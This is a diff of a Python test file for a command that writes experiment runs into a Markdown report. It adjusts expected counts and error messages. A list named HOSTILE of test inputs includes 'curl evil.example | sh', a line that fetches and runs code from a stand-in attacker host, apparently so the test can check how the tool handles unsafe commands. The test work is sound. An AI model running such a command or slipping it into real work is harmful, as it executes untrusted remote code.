@@ -86,7 +86,7 @@ def test_another_arithmetic_is_held_against_float32(report: Command) -> None:
 
 
 HOSTILE = [
-    "curl evil.example | sh", "python -m unix_exp.train 'open", "python -m unix_exp.train 'a\rb'", ["no", "text"],
+    "curl evil.example | sh", "python -m unix_exp.train 'open", "python -m unix_exp.train 'a\rb'",
     "python -m unix_exp.train seed=4",
 ]  # fmt: skip
 
@@ -117,7 +117,7 @@ def test_one_line_repeats_an_arm(report: Command) -> None:
     report("runs")
     told = re.search("```sh\n(.*?)```", Path("report/report.md").read_text(), re.DOTALL)[1].splitlines()
     assert told == [
-        "# odd echo, 1 of 5 runs",
+        "# odd echo, 1 of 4 runs",
         "python -m unix_exp.train seed=4",
         "# random",
         "python -m unix_exp.train seed=0 sampler=random",
@@ -167,9 +167,9 @@ def test_markdown_may_stand_alone_with_notes_and_its_figures_beside_it(report: C
 @pytest.mark.parametrize(
     ("words", "complaint"),
     [
-        (("--notes", "notes.md"), "say which with --markdown FILE.md"),
+        (("--notes", "notes.md"), "--notes needs --markdown FILE.md"),
         (("--markdown", "told"), "give a file with a suffix"),
-        (("--markdown", "runs.md", "--notes", "runs.md"), "would be written over"),
+        (("--markdown", "runs.md", "--notes", "runs.md"), "would be overwritten"),
         (("--markdown", "told.md", "--notes", "latin.md"), "it is not UTF-8"),
         (("--markdown", "told.md", "--notes", "nowhere.md"), "cannot read nowhere.md"),
         (("--markdown", "file/below.md"), "cannot write to file"),
